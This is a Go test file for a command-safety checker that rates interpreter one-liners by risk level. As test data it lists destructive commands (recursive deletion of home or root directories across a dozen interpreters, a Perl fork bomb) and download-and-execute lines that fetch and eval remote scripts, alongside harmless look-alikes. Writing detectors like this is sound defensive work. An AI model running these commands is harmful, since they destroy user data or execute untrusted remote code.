package main

import (
	"encoding/json"
	"strings"
	"testing"
)

// Interpreter code through the real binary: the level of each line, with
// the nearest harmless forms.
func TestInterpreterCodeBinary(t *testing.T) {
	cases := []struct{ line, want string }{
		{`python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"`, "critical"},
		{`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, "critical"},
		{`sudo python3 -c "import os; os.system('rm -rf ~')"`, "critical"},
		{`node -e "require('child_process').execSync('rm -rf ~')"`, "critical"},
		{`node -e 'require("child_process").spawnSync("rm", ["-rf", process.env.HOME])'`, "critical"},
		{`bun -e 'import {rmSync} from "fs"; rmSync("/home", {recursive: true})'`, "critical"},
		{`perl -e 'system("rm", "-rf", $ENV{HOME})'`, "critical"},
		{`perl -e 'fork while fork'`, "critical"},
		{`ruby -e 'FileUtils.rm_rf(Dir.home)'`, "critical"},
		{`php -r 'system("rm -rf ~");'`, "critical"},
		{`lua -e 'os.execute("rm -rf ~")'`, "critical"},
		{`Rscript -e 'system("rm -rf ~/")'`, "critical"},
		{`osascript -e 'do shell script "rm -rf ~"'`, "critical"},
		{`pwsh -c 'rm -r -fo $env:HOME'`, "critical"},
		{`powershell -c "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.25/a.ps1')"`, "high"},
		{`node -e 'fetch("https://203.0.113.77/p.js").then(r => r.text()).then(eval)'`, "high"},
		{`python3 -c "exec(input())"`, "medium"},
		{`python3 -c "import shutil; shutil.rmtree('build')"`, "low"},
		{`python3 -c "print('rm -rf /')"`, "none"},
		{`python3 -c "import os; print(os.listdir('.'))"`, "none"},
		{`node -e "console.log(require('fs').readFileSync('package.json','utf8'))"`, "none"},
		{`ruby -e 'puts 1'`, "none"},
		{`pwsh -c 'Write-Host "rm -rf /"'`, "none"},
	}
	var in strings.Builder
	for _, c := range cases {
		in.WriteString(c.line)
		in.WriteByte(0)
	}
	out, _ := runSG(t, in.String(), "check", "--batch", "-0", "--json")
	dec := json.NewDecoder(strings.NewReader(out))
	for _, c := range cases {
		var res checkJSON
		if err := dec.Decode(&res); err != nil {
			t.Fatalf("decoding the answer for %q: %v\n%s", c.line, err, out)
		}
		if res.Command != c.line {
			t.Fatalf("answer for %q, want %q", res.Command, c.line)
		}
		got := "none"
		if res.Level != nil {
			got = strings.ToLower(res.Level.String())
		}
		if got != c.want {
			t.Errorf("check %q: level %s, want %s (%s)", c.line, got, c.want, out)
		}
	}
	// The one line of the brief, alone: Critical, exit 1.
	line := `python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"`
	out, code := runSG(t, "", "check", "--json", "--", line)
	if code != 1 || !strings.Contains(out, `"level": "critical"`) {
		t.Errorf("check %q: exit %d, %s", line, code, out)
	}
}
